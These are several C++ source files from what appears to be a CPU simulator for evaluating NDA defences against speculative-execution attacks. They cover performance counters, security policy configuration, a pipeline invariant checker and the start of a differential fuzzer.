    /** Committed (architecturally delivered) faults. */
    std::uint64_t faults = 0;

    // Memory
    std::uint64_t loads = 0;
    std::uint64_t stores = 0;

    // MLP (Chou et al.): average outstanding off-chip misses over
    // cycles with at least one outstanding.
    std::uint64_t mlpCycles = 0;      ///< cycles with >=1 outstanding
    std::uint64_t mlpAccum = 0;       ///< sum of outstanding counts

    // ILP: completions per cycle over cycles with >=1 completion.
    std::uint64_t ilpCycles = 0;
    std::uint64_t ilpAccum = 0;

    // NDA instrumentation
    std::uint64_t deferredBroadcasts = 0; ///< broadcasts NDA delayed
    std::uint64_t unsafeMarked = 0;       ///< insts marked unsafe

    /** Squash attribution: flush events by cause (kNone unused). */
    std::uint64_t squashCause[static_cast<int>(SquashCause::kNumCauses)] =
        {};

    Histogram dispatchToIssue{192};
    /** Complete-to-broadcast gap of NDA-deferred producers (Fig 2's
     *  step 3 -> 4 delay, in cycles). */
    Histogram deferredBroadcastDelay{256};
    /** Cycles an instruction spent marked unsafe before its clear. */
    Histogram unsafeResidency{256};

    double
    cpi() const
    {
        return committedInsts
                   ? static_cast<double>(cycles) /
                         static_cast<double>(committedInsts)
                   : 0.0;
    }

    double
    ipc() const
    {
        return cycles ? static_cast<double>(committedInsts) /
                            static_cast<double>(cycles)
                      : 0.0;
    }

    double
    mlp() const
    {
        return mlpCycles ? static_cast<double>(mlpAccum) /
                               static_cast<double>(mlpCycles)
                         : 0.0;
    }

    double
    ilp() const
    {
        return ilpCycles ? static_cast<double>(ilpAccum) /
                               static_cast<double>(ilpCycles)
                         : 0.0;
    }

    double
    cycleFraction(CycleClass c) const
    {
        return cycles ? static_cast<double>(
                            cycleClass[static_cast<int>(c)]) /
                            static_cast<double>(cycles)
                      : 0.0;
    }

    double
    condMispredictRate() const
    {
        return condBranches ? static_cast<double>(condMispredicts) /
                                  static_cast<double>(condBranches)
                            : 0.0;
    }

    /** Zero every counter (start of a measurement window). */
    void reset();

    /**
     * Bind every counter into the registry under group `g`
     * (obs/stats_registry.hh). Pointer binding only — the hot path
     * keeps incrementing plain members.
     */
    void registerStats(StatsRegistry &reg, const std::string &prefix) const;
};

} // namespace nda

#endif // NDASIM_CORE_PERF_COUNTERS_HH
