#include "core/issue_queue.hh"

#include <algorithm>

#include "common/log.hh"
#include "obs/stats_registry.hh"

namespace nda {

IssueQueue::IssueQueue(unsigned capacity)
    : capacity_(capacity)
{
    entries_.reserve(capacity);
}

void
IssueQueue::insert(const DynInstPtr &inst)
{
    NDA_ASSERT(!full(), "issue queue overflow");
    ++inserts_;
    inst->inIq = true;
    if (inst->tid >= perThread_.size())
        perThread_.resize(inst->tid + 1, 0);
    ++perThread_[inst->tid];
    entries_.push_back(inst);
}

bool
IssueQueue::sourcesReady(const DynInst &inst, const PhysRegFile &regs)
{
    if (inst.src1 != kInvalidPhysReg && !regs.ready(inst.src1))
        return false;
    // Stores issue their address phase as soon as the base register
    // is ready (split store-address/store-data micro-ops, as in real
    // OoO cores); the data register is read at commit.
    if (inst.uop.isStore())
        return true;
    if (inst.src2 != kInvalidPhysReg && !regs.ready(inst.src2))
        return false;
    return true;
}

void
IssueQueue::removeSquashed()
{
    const auto is_squashed = [this](const DynInstPtr &inst) {
        if (inst->squashed) {
            inst->inIq = false;
            release(inst->tid);
            return true;
        }
        return false;
    };
    entries_.erase(
        std::remove_if(entries_.begin(), entries_.end(), is_squashed),
        entries_.end());
}

void
IssueQueue::registerStats(StatsRegistry &reg,
                          const std::string &prefix) const
{
    const StatsRegistry::Group g = reg.group(prefix);
    g.counter("inserts", &inserts_, "entries allocated at dispatch");
    g.formula("occupancy_now",
              [this] { return static_cast<double>(entries_.size()); },
              "entries resident at dump time");
}

} // namespace nda
