/**
 * @file
 * The architectural state every execution engine agrees on: register
 * file, MSRs, PC, memory image, retirement counts, and (when a DIFT
 * engine is attached) the architectural taint that travels with them.
 *
 * The interpreter *runs on* an ArchState directly; the timing cores
 * (`InOrderCore`, `OooCore`) save into / restore from one at window
 * boundaries (CoreBase::saveCheckpoint / restoreCheckpoint). Because
 * NDA only changes timing, an ArchState captured from any engine at a
 * commit boundary is a valid starting point for any other — this is
 * what makes SMARTS-style checkpoint reuse (snapshot.hh) sound.
 */

#ifndef NDASIM_CORE_ARCH_STATE_HH
#define NDASIM_CORE_ARCH_STATE_HH

#include <cstdint>
#include <unordered_map>

#include "common/types.hh"
#include "mem/memory_map.hh"

namespace nda {

struct Program;
class TaintEngine;

/**
 * Complete architectural machine state at a commit boundary.
 *
 * Field order is hot-loop-aware: the scalars the interpreter's
 * threaded run loop reads/writes every exit (pc, counters, fetch-line
 * tracker) sit directly after the register file so they share its
 * cache lines, ahead of the cold MSR file and the map-backed fields.
 */
struct ArchState {
    RegVal regs[kNumArchRegs] = {};
    Addr pc = 0;
    /** Instructions retired since the program's entry point. */
    std::uint64_t instCount = 0;
    std::uint64_t faultCount = 0;
    /**
     * Last i-cache line the (warming) front end fetched from, so a
     * restored interpreter resumes its line-crossing detection — and
     * hence its functional-warming i-cache accesses — bit-exactly.
     */
    Addr lastFetchLine = ~Addr{0};
    bool halted = false;
    RegVal msrs[kNumMsrRegs] = {};
    MemoryMap mem;

    // --- DIFT architectural taint (valid iff hasTaint) ------------------
    bool hasTaint = false;
    TaintWord regTaint[kNumArchRegs] = {};
    TaintWord msrTaint[kNumMsrRegs] = {};
    std::unordered_map<Addr, TaintWord> memTaint; ///< per byte, sparse

    /** Reinitialize from a program image (entry PC, initial regs/MSRs,
     *  data segments); clears taint. */
    void reset(const Program &prog);

    /** Copy the engine's architectural taint in; sets hasTaint. */
    void captureTaint(const TaintEngine &dift);

    /** Write the captured architectural taint back into an engine
     *  (no-op unless hasTaint). */
    void applyTaint(TaintEngine &dift) const;

    bool operator==(const ArchState &) const = default;
};

} // namespace nda

#endif // NDASIM_CORE_ARCH_STATE_HH
