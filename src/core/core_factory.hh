/**
 * @file
 * Factory building the right timing core for a SimConfig.
 */

#ifndef NDASIM_CORE_CORE_FACTORY_HH
#define NDASIM_CORE_CORE_FACTORY_HH

#include <memory>

#include "core/core_base.hh"
#include "core/core_config.hh"
#include "isa/program.hh"

namespace nda {

/** Build a core for `cfg`. `prog` must outlive the returned core. */
std::unique_ptr<CoreBase> makeCore(const Program &prog,
                                   const SimConfig &cfg);

} // namespace nda

#endif // NDASIM_CORE_CORE_FACTORY_HH
