/**
 * @file
 * NDA propagation policies and the security configuration knob set
 * (paper §5, Table 2 rows 1-6) plus the InvisiSpec comparison modes
 * (rows 7-8).
 */

#ifndef NDASIM_NDA_POLICY_HH
#define NDASIM_NDA_POLICY_HH

#include <cstdint>
#include <string>

#include "isa/microop.hh"

namespace nda {

/**
 * Data-propagation restriction applied to instructions dispatched
 * while an older *unresolved speculative branch* is in flight.
 */
enum class NdaPolicy : std::uint8_t {
    kNone = 0,     ///< insecure baseline OoO
    kPermissive,   ///< only load-like ops become unsafe (paper §5.2)
    kStrict,       ///< every op becomes unsafe (paper §5.1)
};

/** InvisiSpec comparison model (paper §6.1, Table 2 rows 7-8). */
enum class InvisiSpecMode : std::uint8_t {
    kOff = 0,
    kSpectre,  ///< loads invisible until older branches resolve
    kFuture,   ///< loads also validated before retirement
};

/** Full security configuration of a simulated core. */
struct SecurityConfig {
    NdaPolicy propagation = NdaPolicy::kNone;
    /** Bypass Restriction: loads that bypassed unresolved-address
     *  stores stay unsafe until those stores resolve (paper §5.2). */
    bool bypassRestriction = false;
    /** Load restriction: load-like ops wake dependents only when they
     *  are the eldest unretired instruction (paper §5.3). */
    bool loadRestriction = false;
    /** Extra cycles between becoming safe and broadcasting (Fig 9e). */
    unsigned extraBroadcastDelay = 0;
    InvisiSpecMode invisiSpec = InvisiSpecMode::kOff;
    /**
     * Model the hardware implementation flaw chosen-code attacks
     * exploit: a faulting load/RDMSR forwards the real value to
     * dependents before the fault squashes them (paper §4.3).
     */
    bool meltdownFlaw = true;

    bool
    anyNda() const
    {
        return propagation != NdaPolicy::kNone || bypassRestriction ||
               loadRestriction;
    }

    /**
     * Does this policy mark `uop` unsafe when dispatched under an
     * unresolved speculative branch?
     */
    bool
    marksUnsafeUnderBranch(const MicroOp &uop) const
    {
        switch (propagation) {
          case NdaPolicy::kNone:
            return false;
          case NdaPolicy::kPermissive:
            return uop.isLoadLike();
          case NdaPolicy::kStrict:
            return true;
        }
        return false;
    }
};

/** Human-readable policy name. */
std::string policyName(NdaPolicy p);

/** Human-readable InvisiSpec mode name. */
std::string invisiSpecName(InvisiSpecMode m);

/** One-line description of a SecurityConfig. */
std::string describe(const SecurityConfig &cfg);

} // namespace nda

#endif // NDASIM_NDA_POLICY_HH
