#include "nda/policy.hh"

namespace nda {

std::string
policyName(NdaPolicy p)
{
    switch (p) {
      case NdaPolicy::kNone:
        return "none";
      case NdaPolicy::kPermissive:
        return "permissive";
      case NdaPolicy::kStrict:
        return "strict";
    }
    return "?";
}

std::string
invisiSpecName(InvisiSpecMode m)
{
    switch (m) {
      case InvisiSpecMode::kOff:
        return "off";
      case InvisiSpecMode::kSpectre:
        return "spectre";
      case InvisiSpecMode::kFuture:
        return "future";
    }
    return "?";
}

std::string
describe(const SecurityConfig &cfg)
{
    std::string s = "propagation=" + policyName(cfg.propagation);
    if (cfg.bypassRestriction)
        s += "+BR";
    if (cfg.loadRestriction)
        s += "+loadRestriction";
    if (cfg.invisiSpec != InvisiSpecMode::kOff)
        s += " invisispec=" + invisiSpecName(cfg.invisiSpec);
    if (cfg.extraBroadcastDelay)
        s += " bcastDelay=" + std::to_string(cfg.extraBroadcastDelay);
    return s;
}

} // namespace nda
