#include "fuzz/invariant_checker.hh"

#include <algorithm>

#include "core/ooo_core.hh"

namespace nda {

const char *
fuzzCorruptionName(FuzzCorruption kind)
{
    switch (kind) {
      case FuzzCorruption::kNone:
        return "none";
      case FuzzCorruption::kFreeListLeak:
        return "freelist-leak";
      case FuzzCorruption::kDoubleFree:
        return "double-free";
      case FuzzCorruption::kEarlyWakeup:
        return "early-wakeup";
      case FuzzCorruption::kRenameCorrupt:
        return "rename-corrupt";
      case FuzzCorruption::kRobReorder:
        return "rob-reorder";
      case FuzzCorruption::kMshrDupPrimary:
        return "mshr-dup-primary";
      case FuzzCorruption::kMshrGhostTarget:
        return "mshr-ghost-target";
      case FuzzCorruption::kMshrOverflow:
        return "mshr-overflow";
      case FuzzCorruption::kMshrStuckFill:
        return "mshr-stuck-fill";
      case FuzzCorruption::kCrossThreadRenameBleed:
        return "smt-rename-bleed";
    }
    return "?";
}

FuzzCorruption
fuzzCorruptionFromName(const std::string &name)
{
    static constexpr FuzzCorruption kAll[] = {
        FuzzCorruption::kFreeListLeak,  FuzzCorruption::kDoubleFree,
        FuzzCorruption::kEarlyWakeup,   FuzzCorruption::kRenameCorrupt,
        FuzzCorruption::kRobReorder,    FuzzCorruption::kMshrDupPrimary,
        FuzzCorruption::kMshrGhostTarget,
        FuzzCorruption::kMshrOverflow,  FuzzCorruption::kMshrStuckFill,
        FuzzCorruption::kCrossThreadRenameBleed,
    };
    for (FuzzCorruption k : kAll) {
        if (name == fuzzCorruptionName(k))
            return k;
    }
    return FuzzCorruption::kNone;
}

const char *
invariantKindName(InvariantKind kind)
{
    switch (kind) {
      case InvariantKind::kRobOrder:
        return "rob-order";
      case InvariantKind::kBranchBookkeeping:
        return "branch-bookkeeping";
      case InvariantKind::kFreeList:
        return "free-list";
      case InvariantKind::kRenameMap:
        return "rename-map";
      case InvariantKind::kLsqOrder:
        return "lsq-order";
      case InvariantKind::kWakeupOrder:
        return "wakeup-order";
      case InvariantKind::kNdaSafety:
        return "nda-safety";
      case InvariantKind::kMshrPrimary:
        return "mshr-primary";
      case InvariantKind::kMshrTargets:
        return "mshr-targets";
      case InvariantKind::kMshrOccupancy:
        return "mshr-occupancy";
      case InvariantKind::kMshrFill:
        return "mshr-fill";
      case InvariantKind::kSmtPartition:
        return "smt-partition";
      default:
        return "?";
    }
}

std::string
InvariantChecker::describe(const InvariantViolation &v)
{
    std::string s = invariantKindName(v.kind);
    s += " @cycle ";
    s += std::to_string(v.cycle);
    if (v.seq != kInvalidSeqNum) {
        s += " seq ";
        s += std::to_string(v.seq);
    }
    s += ": ";
    s += v.detail;
    return s;
}

void
InvariantChecker::reset()
{
    violations_.clear();
    totalViolations_ = 0;
    cyclesChecked_ = 0;
}

void
InvariantChecker::report(InvariantKind kind, Cycle cycle, InstSeqNum seq,
                         std::string detail)
{
    ++totalViolations_;
    if (violations_.size() >= kMaxRecorded)
        return;
    violations_.push_back({kind, cycle, seq, std::move(detail)});
}

void
InvariantChecker::onCycleEnd(const OooCore &core)
{
    ++cyclesChecked_;
    checkRobOrder(core);
    checkBranchBookkeeping(core);
    checkFreeList(core);
    // Partition isolation before the rename-map check: a cross-thread
    // bleed violates both, and the isolation breach is the root cause.
    checkSmtPartition(core);
    checkRenameMap(core);
    checkLsq(core);
    checkWakeupOrder(core);
    checkNdaSafety(core);
    checkMshr(core);
}

void
InvariantChecker::checkRobOrder(const OooCore &core)
{
    for (const auto &tc : core.threads_) {
        InstSeqNum prev = 0;
        bool first = true;
        for (const DynInstPtr &inst : tc.rob) {
            if (!first && inst->seq <= prev) {
                report(InvariantKind::kRobOrder, core.cycle_, inst->seq,
                       "ROB not in age order (prev seq " +
                           std::to_string(prev) + ")");
            }
            if (inst->squashed) {
                report(InvariantKind::kRobOrder, core.cycle_, inst->seq,
                       "squashed entry still in the ROB");
            }
            if (inst->committed) {
                report(InvariantKind::kRobOrder, core.cycle_, inst->seq,
                       "committed entry still in the ROB");
            }
            prev = inst->seq;
            first = false;
        }
    }
}

void
InvariantChecker::checkBranchBookkeeping(const OooCore &core)
{
    // Expected list per thread: in-ROB speculative branches not yet
    // executed, in age order (resolution happens the cycle `executed`
    // is set).
    for (unsigned t = 0; t < core.numThreads_; ++t) {
        const auto &tc = core.threads_[t];
        std::vector<InstSeqNum> expect;
        for (const DynInstPtr &inst : tc.rob) {
            if (inst->isSpecBranch() && !inst->executed)
                expect.push_back(inst->seq);
        }
        const auto &got = tc.unresolvedBranches;
        if (expect.size() != got.size() ||
            !std::equal(expect.begin(), expect.end(), got.begin())) {
            report(InvariantKind::kBranchBookkeeping, core.cycle_,
                   got.empty() ? kInvalidSeqNum : got.front(),
                   "thread " + std::to_string(t) +
                       " unresolved-branch list (" +
                       std::to_string(got.size()) +
                       " entries) does not mirror the ROB's " +
                       std::to_string(expect.size()) +
                       " unresolved speculative branches");
        }
    }
}

void
InvariantChecker::checkFreeList(const OooCore &core)
{
    // Free lists, committed mappings, and in-flight destinations must
    // partition the physical register file: no duplicates (a double
    // free or aliased rename) and no unreachable register (a leak,
    // typically dropped during squash recovery).
    enum : std::uint8_t { kUnowned = 0, kFree, kCommitted, kInFlight };
    static const char *const owner_name[] = {"unowned", "free list",
                                             "commit map", "ROB dest"};
    std::vector<std::uint8_t> owner(core.regs_.size(), kUnowned);

    const auto claim = [&](PhysRegId r, std::uint8_t who,
                           InstSeqNum seq) {
        if (r >= owner.size()) {
            report(InvariantKind::kFreeList, core.cycle_, seq,
                   "out-of-range phys reg " + std::to_string(r));
            return;
        }
        if (owner[r] != kUnowned) {
            report(InvariantKind::kFreeList, core.cycle_, seq,
                   "phys reg " + std::to_string(r) + " claimed by " +
                       owner_name[owner[r]] + " and " + owner_name[who]);
            return;
        }
        owner[r] = who;
    };

    for (unsigned p = 0; p < core.regs_.numPartitions(); ++p) {
        for (PhysRegId r : core.regs_.freeList(p))
            claim(r, kFree, kInvalidSeqNum);
    }
    for (const auto &tc : core.threads_) {
        for (unsigned a = 0; a < kNumArchRegs; ++a)
            claim(tc.commitMap[a], kCommitted, kInvalidSeqNum);
        for (const DynInstPtr &inst : tc.rob) {
            if (inst->dest != kInvalidPhysReg)
                claim(inst->dest, kInFlight, inst->seq);
        }
    }

    for (unsigned r = 0; r < owner.size(); ++r) {
        if (owner[r] == kUnowned) {
            report(InvariantKind::kFreeList, core.cycle_, kInvalidSeqNum,
                   "phys reg " + std::to_string(r) +
                       " leaked (not free, committed, or in flight)");
        }
    }
}

void
InvariantChecker::checkSmtPartition(const OooCore &core)
{
    // SMT isolation: everything a hardware thread references must be
    // its own. Trivially true (and skipped) on a single-thread core.
    if (core.numThreads_ < 2)
        return;

    const auto owned_by = [&](PhysRegId r, unsigned t) {
        return r != kInvalidPhysReg && core.regs_.owner(r) == t;
    };

    for (unsigned t = 0; t < core.numThreads_; ++t) {
        const auto &tc = core.threads_[t];
        for (unsigned a = 0; a < kNumArchRegs; ++a) {
            const PhysRegId spec = tc.rmap.lookup(static_cast<RegId>(a));
            if (!owned_by(spec, t)) {
                report(InvariantKind::kSmtPartition, core.cycle_,
                       kInvalidSeqNum,
                       "thread " + std::to_string(t) + " arch r" +
                           std::to_string(a) + " renamed to p" +
                           std::to_string(spec) +
                           ", owned by thread " +
                           std::to_string(core.regs_.owner(spec)));
            }
            const PhysRegId comm = tc.commitMap[a];
            if (!owned_by(comm, t)) {
                report(InvariantKind::kSmtPartition, core.cycle_,
                       kInvalidSeqNum,
                       "thread " + std::to_string(t) + " arch r" +
                           std::to_string(a) + " committed to p" +
                           std::to_string(comm) +
                           ", owned by thread " +
                           std::to_string(core.regs_.owner(comm)));
            }
        }
        for (const DynInstPtr &inst : tc.rob) {
            if (inst->tid != t) {
                report(InvariantKind::kSmtPartition, core.cycle_,
                       inst->seq,
                       "thread " + std::to_string(t) +
                           " ROB holds an instruction tagged tid " +
                           std::to_string(inst->tid));
            }
            if (inst->dest != kInvalidPhysReg &&
                !owned_by(inst->dest, t)) {
                report(InvariantKind::kSmtPartition, core.cycle_,
                       inst->seq,
                       "thread " + std::to_string(t) +
                           " in-flight dest p" +
                           std::to_string(inst->dest) +
                           " owned by thread " +
                           std::to_string(core.regs_.owner(inst->dest)));
            }
        }
        // Free-list purity: free(r) routes through the owner table,
        // so a foreign register here means a cross-thread free.
        for (PhysRegId r : core.regs_.freeList(t)) {
            if (core.regs_.owner(r) != t) {
                report(InvariantKind::kSmtPartition, core.cycle_,
                       kInvalidSeqNum,
                       "thread " + std::to_string(t) +
                           " free list holds p" + std::to_string(r) +
                           ", owned by thread " +
                           std::to_string(core.regs_.owner(r)));
            }
        }
    }
}

void
InvariantChecker::checkRenameMap(const OooCore &core)
{
    // The speculative map must equal the committed map overridden by
    // the youngest in-flight writer of each architectural register —
    // per thread: renames never cross hardware contexts.
    for (unsigned t = 0; t < core.numThreads_; ++t) {
        const auto &tc = core.threads_[t];
        PhysRegId expect[kNumArchRegs];
        for (unsigned a = 0; a < kNumArchRegs; ++a)
            expect[a] = tc.commitMap[a];
        for (const DynInstPtr &inst : tc.rob) {
            if (inst->dest != kInvalidPhysReg)
                expect[inst->uop.rd] = inst->dest;
        }
        for (unsigned a = 0; a < kNumArchRegs; ++a) {
            const PhysRegId got = tc.rmap.lookup(static_cast<RegId>(a));
            if (got != expect[a]) {
                report(InvariantKind::kRenameMap, core.cycle_,
                       kInvalidSeqNum,
                       "thread " + std::to_string(t) + " arch r" +
                           std::to_string(a) + " maps to p" +
                           std::to_string(got) + ", expected p" +
                           std::to_string(expect[a]));
            }
        }
    }
}

void
InvariantChecker::checkLsq(const OooCore &core)
{
    for (unsigned t = 0; t < core.numThreads_; ++t) {
        const auto &rob = core.threads_[t].rob;
        const auto in_rob = [&](InstSeqNum seq) {
            const auto it = std::lower_bound(
                rob.begin(), rob.end(), seq,
                [](const DynInstPtr &inst, InstSeqNum s) {
                    return inst->seq < s;
                });
            return it != rob.end() && (*it)->seq == seq;
        };

        const auto check_queue = [&](const std::deque<DynInstPtr> &q,
                                     const char *which, bool want_load) {
            InstSeqNum prev = 0;
            bool first = true;
            for (const DynInstPtr &inst : q) {
                if (!first && inst->seq <= prev) {
                    report(InvariantKind::kLsqOrder, core.cycle_,
                           inst->seq,
                           std::string(which) +
                               " queue not in age order");
                }
                if (inst->squashed) {
                    report(InvariantKind::kLsqOrder, core.cycle_,
                           inst->seq,
                           std::string(which) +
                               " queue holds a squashed entry");
                } else if (!in_rob(inst->seq)) {
                    report(InvariantKind::kLsqOrder, core.cycle_,
                           inst->seq,
                           std::string(which) +
                               " queue entry not in the ROB");
                }
                if (inst->isLoad() != want_load) {
                    report(InvariantKind::kLsqOrder, core.cycle_,
                           inst->seq,
                           std::string(which) +
                               " queue holds a non-" + which);
                }
                if (core.numThreads_ > 1 && inst->tid != t) {
                    report(InvariantKind::kSmtPartition, core.cycle_,
                           inst->seq,
                           "thread " + std::to_string(t) + " " + which +
                               " queue holds an instruction tagged tid " +
                               std::to_string(inst->tid));
                }
                prev = inst->seq;
                first = false;
            }
        };

        check_queue(core.lsq_.loads(t), "load", true);
        check_queue(core.lsq_.stores(t), "store", false);
    }
}

void
InvariantChecker::checkWakeupOrder(const OooCore &core)
{
    for (const auto &tc : core.threads_) {
        for (const DynInstPtr &inst : tc.rob) {
            if (inst->dest == kInvalidPhysReg)
                continue;
            const bool ready = core.regs_.ready(inst->dest);
            if (ready != inst->broadcasted) {
                report(InvariantKind::kWakeupOrder, core.cycle_,
                       inst->seq,
                       std::string("dest p") +
                           std::to_string(inst->dest) +
                           (ready ? " ready without a broadcast"
                                  : " broadcast but not ready"));
            }
            if (inst->broadcasted && !inst->executed) {
                report(InvariantKind::kWakeupOrder, core.cycle_,
                       inst->seq, "broadcast before execution");
            }
        }
    }
}

void
InvariantChecker::checkNdaSafety(const OooCore &core)
{
    // Per thread, under that thread's own policy: SMT runs mixed
    // protection levels (unprotected attacker, protected victim).
    for (unsigned t = 0; t < core.numThreads_; ++t) {
        const SecurityConfig &sec = core.cfg_.secFor(t);
        const auto &tc = core.threads_[t];

        // Recompute the paper's safety boundary independently of the
        // core's own unsafe bits: the eldest unresolved spec branch.
        const InstSeqNum boundary = tc.unresolvedBranches.empty()
                                        ? kInvalidSeqNum
                                        : tc.unresolvedBranches.front();

        for (const DynInstPtr &inst : tc.rob) {
            const bool woke =
                inst->broadcasted ||
                (inst->dest != kInvalidPhysReg &&
                 core.regs_.ready(inst->dest));

            // An instruction the core itself still holds unsafe must
            // not have woken consumers, under any configuration.
            if (inst->isUnsafe() && woke) {
                report(InvariantKind::kNdaSafety, core.cycle_,
                       inst->seq,
                       "unsafe instruction woke its consumers");
            }

            // Propagation policy (paper §5.1/§5.2): every covered op
            // younger than the boundary must be marked and deferred.
            if (boundary != kInvalidSeqNum && inst->seq > boundary &&
                sec.marksUnsafeUnderBranch(inst->uop)) {
                if (!inst->unsafeBranch) {
                    report(InvariantKind::kNdaSafety, core.cycle_,
                           inst->seq,
                           "covered op under unresolved branch " +
                               std::to_string(boundary) +
                               " lost its unsafe mark");
                }
                if (woke) {
                    report(InvariantKind::kNdaSafety, core.cycle_,
                           inst->seq,
                           "op broadcast under unresolved branch " +
                               std::to_string(boundary));
                }
            }

            // Bypass Restriction (paper §5.2): a load that executed
            // past stores whose addresses are still unknown stays
            // deferred.
            if (sec.bypassRestriction && inst->isLoad() &&
                inst->executed && !inst->bypassedStores.empty()) {
                if (!inst->unsafeBypass) {
                    report(InvariantKind::kNdaSafety, core.cycle_,
                           inst->seq,
                           "load with unresolved bypassed stores lost "
                           "its unsafe mark");
                }
                if (woke) {
                    report(InvariantKind::kNdaSafety, core.cycle_,
                           inst->seq,
                           "load broadcast with " +
                               std::to_string(
                                   inst->bypassedStores.size()) +
                               " bypassed stores unresolved");
                }
            }

            // Load restriction (paper §5.3): only the ROB head of the
            // load's own thread may wake.
            if (sec.loadRestriction && inst->isLoadLike() &&
                inst != tc.rob.front()) {
                if (!inst->unsafeLoad) {
                    report(InvariantKind::kNdaSafety, core.cycle_,
                           inst->seq,
                           "non-head load-like op lost its unsafe mark");
                }
                if (woke) {
                    report(InvariantKind::kNdaSafety, core.cycle_,
                           inst->seq,
                           "non-head load-like op woke consumers");
                }
            }
        }
    }
}

void
InvariantChecker::checkMshr(const OooCore &core)
{
    const MemHierarchy &hier = core.hier_;
    if (!hier.mshrEnabled())
        return;

    // advance() runs at the top of the tick, so by cycle end every
    // surviving fill must be strictly in the future — and no farther
    // out than a full L2-miss round trip scheduled this very cycle.
    // A later fillAt is a fill the memory system lost: its waiters
    // would sleep forever, which no stall counter ever surfaces.
    const HierarchyParams &p = hier.params();
    const Cycle fill_bound =
        core.cycle_ + p.l2.hitLatency + p.dramLatency;

    const auto live_load = [&](const MshrTarget &t) {
        if (t.tid >= core.numThreads_)
            return false;
        for (const DynInstPtr &ld : core.lsq_.loads(t.tid)) {
            if (ld->seq == t.seq)
                return !ld->squashed;
        }
        return false;
    };

    const auto check_file = [&](const Mshr &file) {
        if (file.occupancy() > file.capacity()) {
            report(InvariantKind::kMshrOccupancy, core.cycle_,
                   kInvalidSeqNum,
                   file.name() + " holds " +
                       std::to_string(file.occupancy()) +
                       " entries, capacity " +
                       std::to_string(file.capacity()));
        }
        std::vector<Addr> seen;
        for (const MshrEntry &e : file.entries()) {
            if (std::find(seen.begin(), seen.end(), e.lineAddr) !=
                seen.end()) {
                report(InvariantKind::kMshrPrimary, core.cycle_,
                       kInvalidSeqNum,
                       file.name() + " has two primary entries for line " +
                           std::to_string(e.lineAddr));
            }
            seen.push_back(e.lineAddr);
            if (e.fillAt > fill_bound) {
                report(InvariantKind::kMshrFill, core.cycle_,
                       kInvalidSeqNum,
                       file.name() + " line " +
                           std::to_string(e.lineAddr) + " fills at " +
                           std::to_string(e.fillAt) +
                           ", past the legal bound " +
                           std::to_string(fill_bound));
            }
            for (const MshrTarget &t : e.targets) {
                // Stores are committed, prefetches fire-and-forget,
                // fetch targets belong to the front end — only load
                // targets must map to a live (un-squashed) LSQ load
                // of the thread recorded in the target.
                if (t.kind != MshrTargetKind::kLoad)
                    continue;
                if (!live_load(t)) {
                    report(InvariantKind::kMshrTargets, core.cycle_,
                           t.seq,
                           file.name() + " line " +
                               std::to_string(e.lineAddr) +
                               " carries a load target with no live "
                               "LSQ load behind it");
                }
            }
        }
    };

    check_file(hier.mshrInst());
    check_file(hier.mshrData());
    check_file(hier.mshrL2());
}

} // namespace nda
