#include "fuzz/differential_fuzzer.hh"

#include <algorithm>
#include <memory>
#include <mutex>

#include "common/thread_pool.hh"
#include "common/xrandom.hh"
#include "core/core_factory.hh"
#include "core/ooo_core.hh"
#include "dift/taint_engine.hh"
#include "isa/interpreter.hh"
#include "obs/stats_registry.hh"

namespace nda {

namespace {

/** Cycles per run() slice — kept under the OoO core's 500k-cycle
 *  no-commit watchdog so a wedged candidate program is reported as a
 *  fuzz failure instead of aborting the whole campaign. */
constexpr Cycle kSliceCycles = 400'000;
/** Instruction cap per slice; avoids the in-order core's unchecked
 *  `committed + max_insts` sum wrapping on ~0. */
constexpr std::uint64_t kSliceInsts = 1'000'000'000;
/** Oracle (interpreter) instruction budget per candidate. */
constexpr std::uint64_t kOracleInsts = 10'000'000;

/** FNV-1a, the fingerprint accumulator. */
struct Fnv {
    std::uint64_t h = 0xcbf29ce484222325ULL;

    void
    byte(std::uint8_t b)
    {
        h ^= b;
        h *= 0x100000001b3ULL;
    }

    void
    u64(std::uint64_t v)
    {
        for (int i = 0; i < 8; ++i)
            byte(static_cast<std::uint8_t>(v >> (8 * i)));
    }

    void
    bytes(const std::uint8_t *p, std::size_t n)
    {
        for (std::size_t i = 0; i < n; ++i)
            byte(p[i]);
    }

    void
    str(const std::string &s)
    {
        u64(s.size());
        bytes(reinterpret_cast<const std::uint8_t *>(s.data()),
              s.size());
    }
};

/** Secrets for the taint comparison: the first 64 bytes of the first
 *  data segment (deterministic, and present in every generated
 *  program's random-data segment). */
SecretMap
fuzzSecrets(const Program &prog)
{
    SecretMap secrets;
    if (!prog.data.empty() && !prog.data.front().bytes.empty()) {
        const DataSegment &seg = prog.data.front();
        secrets.addMemRange(
            seg.base,
            static_cast<unsigned>(std::min<std::size_t>(
                64, seg.bytes.size())),
            "fuzz-secret");
    }
    return secrets;
}

/** Comparable architectural end state of one model. */
struct ModelEndState {
    RegVal regs[kNumArchRegs] = {};
    RegVal msrs[kNumMsrRegs] = {};
    std::uint64_t insts = 0;
    std::uint64_t faults = 0;
    std::vector<std::uint8_t> mem;      ///< all segments, concatenated
    TaintWord regTaint[kNumArchRegs] = {};
    std::vector<TaintWord> memTaint;    ///< per byte, same layout
};

void
collectMemory(const Program &prog, const MemoryMap &mem,
              const TaintEngine *taint, ModelEndState &out)
{
    std::size_t total = 0;
    for (const DataSegment &seg : prog.data)
        total += seg.bytes.size();
    out.mem.resize(total);
    std::size_t at = 0;
    for (const DataSegment &seg : prog.data) {
        mem.readBytes(seg.base, out.mem.data() + at, seg.bytes.size());
        at += seg.bytes.size();
    }
    if (taint) {
        out.memTaint.reserve(total);
        for (const DataSegment &seg : prog.data) {
            for (std::size_t i = 0; i < seg.bytes.size(); ++i) {
                out.memTaint.push_back(
                    taint->memTaint(seg.base + i, 1));
            }
        }
    }
}

/** Address of byte `index` of the concatenated segment image. */
Addr
memIndexToAddr(const Program &prog, std::size_t index)
{
    for (const DataSegment &seg : prog.data) {
        if (index < seg.bytes.size())
            return seg.base + index;
        index -= seg.bytes.size();
    }
    return 0;
}

void
hashState(Fnv &fnv, const ModelEndState &s)
{
    for (RegVal r : s.regs)
        fnv.u64(r);
    for (RegVal m : s.msrs)
        fnv.u64(m);
    fnv.u64(s.insts);
    fnv.u64(s.faults);
    fnv.bytes(s.mem.data(), s.mem.size());
    for (TaintWord t : s.regTaint)
        fnv.u64(t);
    for (TaintWord t : s.memTaint)
        fnv.u64(t);
}

/**
 * Run `core` to completion in watchdog-safe slices.
 * @return true on halt; false (with `why`) on hang or budget blowout.
 */
bool
runCoreSliced(CoreBase &core, Cycle max_cycles, std::string &why)
{
    while (!core.halted() && core.cycle() < max_cycles) {
